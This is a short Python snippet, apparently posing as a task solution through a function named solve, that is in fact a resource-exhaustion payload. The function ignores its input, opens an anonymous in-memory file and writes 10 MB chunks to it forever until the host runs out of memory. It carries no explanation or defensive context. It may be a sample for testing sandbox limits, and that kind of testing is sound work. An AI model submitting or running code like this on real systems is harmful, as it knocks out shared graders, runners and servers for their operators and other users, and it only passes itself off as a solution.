import ctypes, os
def solve(n):
  fd = os.memfd_create('x')
  while True:
    os.write(fd, b'x' * 10**7)
